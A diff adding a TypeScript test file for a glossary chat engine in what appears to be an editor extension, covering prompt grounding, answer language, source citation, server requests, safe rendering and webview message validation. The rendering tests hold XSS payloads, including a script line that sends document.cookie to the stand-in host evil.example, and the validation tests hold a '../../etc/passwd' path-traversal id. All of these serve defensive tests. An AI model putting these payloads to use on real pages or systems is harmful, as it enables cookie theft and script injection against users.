@@ -1,0 +1,347 @@
+import * as assert from 'node:assert/strict';
+import * as http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { TextGenerator } from '../../src/core/answer/answerer';
+import { contextLine, SPECIAL } from '../../src/core/answer/prompt';
+import { ChatEngine, withSelection, type Backend, type ChatRequest } from '../../src/core/chat/chatEngine';
+import type { Turn } from '../../src/core/chat/conversation';
+import { ServerError, type ChatMessage } from '../../src/core/chat/openaiClient';
+import type { GenerateOptions, GenerationResult, PromptPart } from '../../src/core/model/runtime';
+import { renderMarkdown } from '../../src/core/present/markdown';
+import { MAX_QUESTION_CHARS, parseChatMessage } from '../../src/shared/chatMessages';
+import { bundledGlossary } from './bundled';
+
+/** A model that records what it was asked and streams a scripted answer. */
+class FakeModel implements TextGenerator {
+  readonly calls: Array<{ prompt: PromptPart[]; options: GenerateOptions; signal: AbortSignal | undefined }> = [];
+
+  constructor(private readonly pieces: readonly string[]) {}
+
+  async generate(prompt: readonly PromptPart[], options: GenerateOptions, onText: (text: string) => void, signal?: AbortSignal): Promise<GenerationResult> {
+    this.calls.push({ prompt: [...prompt], options, signal });
+    for (const piece of this.pieces) {
+      await Promise.resolve();
+      onText(piece);
+    }
+    return { text: this.pieces.join(''), ids: [], promptTokens: 0, stopReason: 'eos', firstTokenMs: 0, tokensPerS: 0, totalMs: 0 };
+  }
+
+  get prompt(): PromptPart[] {
+    assert.equal(this.calls.length, 1, 'the model is called once');
+    return this.calls[0]!.prompt;
+  }
+}
+
+const OPTIONS: GenerateOptions = { greedy: false, temperature: 0.3, topK: 20, maxNewTokens: 256, stop: [SPECIAL.endOfText] };
+
+function bundled(model: FakeModel): Backend {
+  return { kind: 'bundled', model, options: OPTIONS };
+}
+
+function request(question: string, fields: Partial<ChatRequest> = {}): ChatRequest {
+  return { question, answerLang: 'auto', fallbackLang: 'en', history: [], ...fields };
+}
+
+function turn(id: string, fields: Partial<Turn> = {}): Turn {
+  return { id, question: `question ${id}`, answer: `answer ${id}`, lang: 'en', sources: [], state: 'done', createdAt: 0, ...fields };
+}
+
+const texts = (prompt: readonly PromptPart[]) => prompt.flatMap((part) => ('text' in part ? [part.text] : []));
+const specials = (prompt: readonly PromptPart[]) => prompt.flatMap((part) => ('special' in part ? [part.special] : []));
+
+/** A local OpenAI-compatible server on 127.0.0.1 that streams the given pieces and records the requests. */
+async function startServer(pieces: readonly string[], status = 200): Promise<{ server: http.Server; base: string; bodies: Array<Record<string, unknown>> }> {
+  const bodies: Array<Record<string, unknown>> = [];
+  const server = http.createServer((req, res) => {
+    let body = '';
+    req.setEncoding('utf8');
+    req.on('data', (chunk: string) => (body += chunk));
+    req.on('end', () => {
+      bodies.push(JSON.parse(body) as Record<string, unknown>);
+      if (status !== 200) {
+        res.writeHead(status);
+        res.end('refused');
+        return;
+      }
+      res.writeHead(200, { 'content-type': 'text/event-stream' });
+      for (const piece of pieces) res.write(`data: ${JSON.stringify({ choices: [{ delta: { content: piece } }] })}\n\n`);
+      res.end('data: [DONE]\n\n');
+    });
+  });
+  await new Promise<void>((resolve, reject) => {
+    server.once('error', reject);
+    server.listen(0, '127.0.0.1', () => resolve());
+  });
+  const { port } = server.address() as AddressInfo;
+  return { server, base: `http://127.0.0.1:${port}/v1`, bodies };
+}
+
+async function stopServer(server: http.Server | undefined): Promise<void> {
+  if (!server) return;
+  server.closeAllConnections();
+  await new Promise<void>((resolve) => server.close(() => resolve()));
+}
+
+describe('chat engine with the bundled model', () => {
+  const glossary = bundledGlossary();
+  const engine = new ChatEngine(glossary);
+
+  it('grounds a French question on the retrieved entries, streams the answer and cites its sources', async () => {
+    const question = "Qu'est-ce que l'affinage ?";
+    const model = new FakeModel(["L'affinage ", 'adapte un modèle ', 'pré-entraîné [fine-tuning].']);
+    const streamed: string[] = [];
+    const controller = new AbortController();
+    const answer = await engine.ask(request(question), bundled(model), (text) => streamed.push(text), controller.signal);
+
+    const prompt = model.prompt;
+    assert.deepEqual(prompt[0], { special: SPECIAL.lang.fr });
+    assert.ok(texts(prompt).includes(contextLine(glossary.get('fine-tuning')!, 'fr')), JSON.stringify(prompt));
+    assert.ok(texts(prompt).some((text) => text.startsWith('[fine-tuning] affinage (')), JSON.stringify(prompt));
+    assert.ok(texts(prompt).includes(`${question}\n`));
+    assert.deepEqual(specials(prompt), [SPECIAL.lang.fr, SPECIAL.context, SPECIAL.question, SPECIAL.answer]);
+    assert.equal(model.calls[0]!.options, OPTIONS);
+    assert.equal(model.calls[0]!.signal, controller.signal, 'the stop button reaches the model');
+
+    assert.deepEqual(streamed, ["L'affinage ", 'adapte un modèle ', 'pré-entraîné [fine-tuning].']);
+    assert.equal(answer.text, "L'affinage adapte un modèle pré-entraîné [fine-tuning].");
+    assert.equal(answer.lang, 'fr');
+    assert.deepEqual(answer.sources, ['fine-tuning']);
+    assert.ok(Number.isFinite(answer.firstTextMs) && answer.firstTextMs >= 0);
+  });
+
+  it('lists all retrieved entries as sources when the answer cites none of them', async () => {
+    const uncited = await engine.ask(request("Qu'est-ce que l'affinage ?"), bundled(new FakeModel(["C'est l'adaptation d'un modèle."])), () => {});
+    assert.deepEqual(uncited.sources, ['fine-tuning']);
+    // A cited id that was not retrieved is not a source: the model may invent ids.
+    const invented = await engine.ask(request("Qu'est-ce que l'affinage ?"), bundled(new FakeModel(['Voir [gpt] et [made-up-id].'])), () => {});
+    assert.deepEqual(invented.sources, ['fine-tuning']);
+  });
+
+  it('answers in English when English is forced, whatever the question language', async () => {
+    const model = new FakeModel(['Fine-tuning adapts a pre-trained model [fine-tuning].']);
+    const answer = await engine.ask(request("Qu'est-ce que l'affinage ?", { answerLang: 'en', fallbackLang: 'fr' }), bundled(model), () => {});
+    assert.equal(answer.lang, 'en');
+    assert.deepEqual(model.prompt[0], { special: SPECIAL.lang.en });
+    assert.ok(texts(model.prompt).includes(contextLine(glossary.get('fine-tuning')!, 'en')), JSON.stringify(model.prompt));
+    assert.ok(!specials(model.prompt).includes(SPECIAL.lang.fr));
+  });
+
+  it('answers a bare term in the fallback language', async () => {
+    const model = new FakeModel(['GPT [gpt].']);
+    const answer = await engine.ask(request('GPT', { fallbackLang: 'fr' }), bundled(model), () => {});
+    assert.equal(answer.lang, 'fr');
+    assert.deepEqual(model.prompt[0], { special: SPECIAL.lang.fr });
+  });
+
+  it('grounds a follow-up that names no concept on the previous answer’s sources', async () => {
+    const model = new FakeModel(['For example, ChatGPT is built on [gpt].']);
+    const history = [turn('1', { question: 'What is BERT?', sources: ['bert'] }), turn('2', { question: 'What is GPT?', answer: 'GPT is [gpt].', sources: ['gpt'] })];
+    const answer = await engine.ask(request('Give me an example.', { history }), bundled(model), () => {});
+    assert.ok(texts(model.prompt).includes(contextLine(glossary.get('gpt')!, 'en')), JSON.stringify(model.prompt));
+    assert.ok(!texts(model.prompt).some((text) => text.startsWith('[bert]')), 'only the last turn counts');
+    assert.deepEqual(answer.sources, ['gpt']);
+    assert.equal(answer.lang, 'en');
+  });
+
+  it('leaves the context empty for a follow-up with no earlier turn, or with sources no longer in the glossary', async () => {
+    const alone = new FakeModel(['I only know machine-learning concepts.']);
+    const first = await engine.ask(request('Give me an example.'), bundled(alone), () => {});
+    assert.deepEqual(texts(alone.prompt), ['Give me an example.\n']);
+    assert.deepEqual(first.sources, []);
+
+    const stale = new FakeModel(['...']);
+    const second = await engine.ask(request('Give me an example.', { history: [turn('1', { sources: ['removed-concept'] })] }), bundled(stale), () => {});
+    assert.deepEqual(texts(stale.prompt), ['Give me an example.\n']);
+    assert.deepEqual(second.sources, []);
+  });
+
+  it('asks about the editor selection along with the question, cut short', async () => {
+    const model = new FakeModel(['...']);
+    await engine.ask(request('What is this?', { selection: '  model = fine_tune(base)  ' }), bundled(model), () => {});
+    assert.ok(texts(model.prompt).includes('What is this? « model = fine_tune(base) »\n'), JSON.stringify(model.prompt));
+    assert.equal(withSelection('  Why?  ', '   '), 'Why?');
+    assert.equal(withSelection('Why?', 'x'.repeat(1000)), `Why? « ${'x'.repeat(300)} »`);
+  });
+});
+
+describe('chat engine with an OpenAI-compatible server', function () {
+  this.timeout(20_000);
+  const glossary = bundledGlossary();
+  const engine = new ChatEngine(glossary);
+  let server: http.Server | undefined;
+
+  afterEach(async () => {
+    await stopServer(server);
+    server = undefined;
+  });
+
+  it('sends the glossary and the answer language as the system message, then the history, then the question', async () => {
+    const started = await startServer(['Fine-tuning ', 'adapts a model [fine-tuning].']);
+    server = started.server;
+    const history = [
+      turn('1', { question: 'What is this?', context: 'model.fit(x)', answer: 'It trains the model.' }),
+      turn('2', { question: 'What is GPT?', answer: 'GPT is [gpt].', sources: ['gpt'] }),
+    ];
+    const streamed: string[] = [];
+    const answer = await engine.ask(
+      request('What is fine-tuning?', { history }),
+      { kind: 'server', settings: { url: started.base, model: 'llama3', timeoutMs: 10_000 } },
+      (text) => streamed.push(text),
+    );
+
+    assert.equal(started.bodies.length, 1);
+    const body = started.bodies[0]!;
+    assert.equal(body.model, 'llama3');
+    assert.equal(body.stream, true);
+    const messages = body.messages as ChatMessage[];
+    assert.deepEqual(messages.map((message) => message.role), ['system', 'user', 'assistant', 'user', 'assistant', 'user']);
+    const system = messages[0]!.content;
+    assert.match(system, /Answer in English/);
+    assert.ok(system.includes(contextLine(glossary.get('fine-tuning')!, 'en')), system);
+    assert.deepEqual(messages.slice(1), [
+      { role: 'user', content: 'What is this? « model.fit(x) »' },
+      { role: 'assistant', content: 'It trains the model.' },
+      { role: 'user', content: 'What is GPT?' },
+      { role: 'assistant', content: 'GPT is [gpt].' },
+      { role: 'user', content: 'What is fine-tuning?' },
+    ]);
+
+    assert.deepEqual(streamed, ['Fine-tuning ', 'adapts a model [fine-tuning].']);
+    assert.equal(answer.text, 'Fine-tuning adapts a model [fine-tuning].');
+    assert.equal(answer.lang, 'en');
+    assert.deepEqual(answer.sources, ['fine-tuning']);
+  });
+
+  it('asks a French question to be answered in French, from the French glossary lines', async () => {
+    const started = await startServer(["C'est l'adaptation d'un modèle pré-entraîné."]);
+    server = started.server;
+    const answer = await engine.ask(request("Qu'est-ce que l'affinage ?"), { kind: 'server', settings: { url: started.base, model: 'm' } }, () => {});
+    const messages = started.bodies[0]!.messages as ChatMessage[];
+    assert.equal(messages.length, 2);
+    assert.match(messages[0]!.content, /Réponds en français/);
+    assert.ok(messages[0]!.content.includes(`Glossaire:\n${contextLine(glossary.get('fine-tuning')!, 'fr')}`), messages[0]!.content);
+    assert.deepEqual(messages[1], { role: 'user', content: "Qu'est-ce que l'affinage ?" });
+    assert.equal(answer.lang, 'fr');
+    assert.deepEqual(answer.sources, ['fine-tuning'], 'all retrieved entries when none is cited');
+  });
+
+  it('sends no glossary for a question outside machine learning', async () => {
+    const started = await startServer(['I only know machine-learning concepts.']);
+    server = started.server;
+    const answer = await engine.ask(request('How long should I boil an egg?'), { kind: 'server', settings: { url: started.base, model: 'm' } }, () => {});
+    const system = (started.bodies[0]!.messages as ChatMessage[])[0]!.content;
+    assert.ok(!system.includes('Glossary'), system);
+    assert.deepEqual(answer.sources, []);
+  });
+
+  it('passes server failures on as ServerErrors the chat can explain', async () => {
+    const started = await startServer([], 401);
+    server = started.server;
+    await assert.rejects(
+      engine.ask(request('What is GPT?'), { kind: 'server', settings: { url: started.base, model: 'm', apiKey: 'bad' } }, () => {}),
+      (error: unknown) => error instanceof ServerError && error.kind === 'unauthorized',
+    );
+  });
+});
+
+describe('answers rendered in the chat view', function () {
+  this.timeout(20_000);
+  const engine = new ChatEngine(bundledGlossary());
+  const MALICIOUS = [
+    'GPT is a model [gpt]. <img src=x onerror=alert(1)> and <script>alert(1)</script>',
+    '',
+    '[link](javascript:alert(1)) and [other](JavaScript:alert(2))',
+    '',
+    '<script>',
+    'fetch("https://evil.example/?c=" + document.cookie)',
+    '</script>',
+    '',
+    '<a href="javascript:alert(3)">click</a>',
+  ].join('\n');
+
+  function assertSafe(html: string): void {
+    assert.ok(!/<img/i.test(html), html);
+    assert.ok(!/<script/i.test(html), html);
+    assert.ok(!/<a\s/i.test(html), html);
+    assert.ok(!/href\s*=\s*["']?\s*javascript:/i.test(html), html);
+    assert.ok(html.includes('&lt;script&gt;'), html);
+    assert.ok(html.includes('&lt;img src=x onerror=alert(1)&gt;'), html);
+  }
+
+  it('escapes HTML and drops javascript: links in an answer from the bundled model', async () => {
+    const model = new FakeModel([MALICIOUS.slice(0, 40), MALICIOUS.slice(40, 90), MALICIOUS.slice(90)]);
+    let streamed = '';
+    const answer = await engine.ask(request('What is GPT?'), bundled(model), (text) => (streamed += text));
+    assert.equal(answer.text, MALICIOUS, 'the engine keeps the text as the model wrote it; the renderer makes it safe');
+    assertSafe(renderMarkdown(answer.text));
+    assertSafe(renderMarkdown(streamed));
+  });
+
+  it('escapes HTML and drops javascript: links in an answer streamed by a server', async () => {
+    // Pieces cut inside the tags, as tokens would.
+    const cuts = [0, 35, 52, 61, 75, 110, 140, 170, MALICIOUS.length];
+    const pieces = cuts.slice(1).map((end, index) => MALICIOUS.slice(cuts[index], end));
+    const started = await startServer(pieces);
+    try {
+      let streamed = '';
+      const answer = await engine.ask(request('What is GPT?'), { kind: 'server', settings: { url: started.base, model: 'm', timeoutMs: 10_000 } }, (text) => (streamed += text));
+      assert.equal(answer.text, MALICIOUS);
+      assertSafe(renderMarkdown(answer.text));
+      assertSafe(renderMarkdown(streamed));
+    } finally {
+      await stopServer(started.server);
+    }
+  });
+});
+
+describe('chat messages from the webview', () => {
+  it('accepts well-formed messages, keeping only their known fields', () => {
+    assert.deepEqual(parseChatMessage({ type: 'ready' }), { type: 'ready' });
+    assert.deepEqual(parseChatMessage({ type: 'stop', extra: '<script>' }), { type: 'stop' });
+    assert.deepEqual(parseChatMessage({ type: 'newChat' }), { type: 'newChat' });
+    assert.deepEqual(parseChatMessage({ type: 'ask', question: '  What is GPT?  ' }), { type: 'ask', question: 'What is GPT?' });
+    assert.deepEqual(parseChatMessage({ type: 'copy', id: 'turn-123' }), { type: 'copy', id: 'turn-123' });
+    assert.deepEqual(parseChatMessage({ type: 'openConcept', id: 'self-attention', html: '<b>' }), { type: 'openConcept', id: 'self-attention' });
+    for (const language of ['auto', 'fr', 'en'] as const) {
+      assert.deepEqual(parseChatMessage({ type: 'setLanguage', language }), { type: 'setLanguage', language });
+    }
+  });
+
+  it('drops malformed messages', () => {
+    const bad: unknown[] = [
+      undefined,
+      null,
+      'ask',
+      42,
+      [],
+      {},
+      { type: 'eval', code: 'alert(1)' },
+      { type: 'ASK', question: 'What is GPT?' },
+      { type: 'ask' },
+      { type: 'ask', question: 5 },
+      { type: 'ask', question: ['What is GPT?'] },
+      { type: 'ask', question: '' },
+      { type: 'ask', question: '  \n\t ' },
+      { type: 'copy' },
+      { type: 'copy', id: 7 },
+      { type: 'copy', id: '' },
+      { type: 'copy', id: 'a/b' },
+      { type: 'openConcept', id: '../../etc/passwd' },
+      { type: 'openConcept', id: 'gpt\\..' },
+      { type: 'openConcept', id: 'x'.repeat(101) },
+      { type: 'openConcept', id: '<img>' },
+      { type: 'setLanguage', language: 'de' },
+      { type: 'setLanguage' },
+    ];
+    for (const message of bad) {
+      assert.equal(parseChatMessage(message), undefined, JSON.stringify(message));
+    }
+  });
+
+  it('cuts an over-long question to MAX_QUESTION_CHARS', () => {
+    const parsed = parseChatMessage({ type: 'ask', question: `   ${'a'.repeat(MAX_QUESTION_CHARS + 500)}` });
+    assert.deepEqual(parsed, { type: 'ask', question: 'a'.repeat(MAX_QUESTION_CHARS) });
+    const exact = 'b'.repeat(MAX_QUESTION_CHARS);
+    assert.deepEqual(parseChatMessage({ type: 'ask', question: exact }), { type: 'ask', question: exact });
+  });
+});
